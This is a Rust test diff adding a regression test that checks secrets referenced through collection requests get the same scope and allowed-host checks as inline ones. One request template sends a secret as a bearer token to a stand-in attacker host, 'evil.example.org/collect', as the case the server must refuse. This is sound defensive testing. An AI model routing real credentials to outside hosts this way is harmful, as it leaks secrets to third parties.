@@ -326,3 +326,45 @@ async fn an_inline_definition_with_rows_runs_once_per_row_as_a_batch_with_its_pr
     assert_eq!(items[0]["source"]["path"], "flows/probe.json", "{}", listed.text);
     assert_eq!(items[0]["priority"], 1, "{}", listed.text);
 }
+
+/// Regression (review of #52): the secret check read the definition as sent, so a secret named by a collection
+/// request the definition refers to (`request_ref`) skipped it: a `flows:execute` key could run it ephemerally and
+/// be handed the secret, or send it to a host the secret's list leaves out. Secrets are now checked in what runs.
+#[tokio::test]
+async fn a_secret_behind_a_collection_request_is_checked_like_one_written_inline() {
+    const VALUE: &str = "behind-a-ref-s3cret";
+    let app = TestApp::spawn_for_execution().await;
+    let secret = PutSecret {
+        value: VALUE.parse().expect("a value"),
+        allowed_hosts: vec!["api.example.com".to_owned()],
+        runners_only: false,
+    };
+    app.api().secrets().put("NARROW", &secret).await.expect("put the secret");
+    let collection = app.admin(Method::POST, "/collections", Some(json!({"name": "apis"}))).await;
+    assert_eq!(collection.status, 201, "{}", collection.text);
+    let collection = collection.body["id"].as_str().expect("id").to_owned();
+    let mut ids = Vec::new();
+    for url in ["https://api.example.com/me", "https://evil.example.org/collect"] {
+        let body = json!({"name": url, "method": "GET", "url": url,
+                          "headers": {"authorization": "Bearer {{secret.NARROW}}"}});
+        let added = app.admin(Method::POST, &format!("/collections/{collection}/requests"), Some(body)).await;
+        assert_eq!(added.status, 201, "{}", added.text);
+        ids.push(added.body["id"].as_str().expect("id").to_owned());
+    }
+    let referring = |request: &str, mode: &str| {
+        json!({"mode": mode, "definition": {"nodes": [{"id": "call", "kind": "request",
+            "request_ref": {"collection_id": collection, "request_id": request}}]}})
+    };
+    // Without flows:write, even an ephemeral run of the allowed host is refused: the claim would hand the secret over.
+    let executors = scoped(&app, app.admin.org, &["flows:execute"]).await;
+    let refused = app.call(Method::POST, "/executions", Some(&executors), Some(referring(&ids[0], "ephemeral"))).await;
+    refused.assert_refused(403, "insufficient_scope", "flows:write");
+    assert!(!refused.text.contains(VALUE), "{}", refused.text);
+    // With it, a host the secret's list leaves out is refused, naming the secret and the host.
+    let elsewhere = app.admin(Method::POST, "/executions", Some(referring(&ids[1], "queued"))).await;
+    elsewhere.assert_refused(403, "insufficient_scope", "NARROW");
+    assert!(elsewhere.text.contains("evil.example.org"), "{}", elsewhere.text);
+    let allowed = app.admin(Method::POST, "/executions", Some(referring(&ids[0], "queued"))).await;
+    assert_eq!(allowed.status, 201, "{}", allowed.text);
+    assert!(!allowed.text.contains(VALUE), "{}", allowed.text);
+}
